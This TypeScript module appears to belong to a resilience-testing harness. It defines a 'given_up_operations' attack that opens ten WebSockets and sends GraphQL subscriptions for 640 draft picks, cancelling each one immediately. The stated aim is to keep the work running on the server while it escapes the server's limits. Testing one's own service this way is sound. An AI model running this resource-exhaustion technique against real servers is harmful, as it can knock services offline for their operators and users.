import type { Attack } from '../attack.ts';
import { frame, openWebSocket, swarm, whileOpen } from './swarm.ts';

const SOCKETS = 10;

/** Begins operations on WebSockets and cancels each at once, so that it no longer counts while it still runs. */
export const givenUpOperations: Attack = {
  name: 'given_up_operations',
  run: (target, run) =>
    swarm(target, run, SOCKETS, (socket) => {
      socket.resume();
      openWebSocket(socket);
      let asked = 0;
      whileOpen(socket, 5, () => {
        asked += 1;
        const query = `{ draft(id: "${target.draftId}") { picks(first: 640) { nodes { pickNumber player { name } } } } }`;
        const id = String(asked);
        socket.write(frame('text', JSON.stringify({ id, type: 'subscribe', payload: { query } })));
        socket.write(frame('text', JSON.stringify({ id, type: 'complete' })));
      });
    }),
};
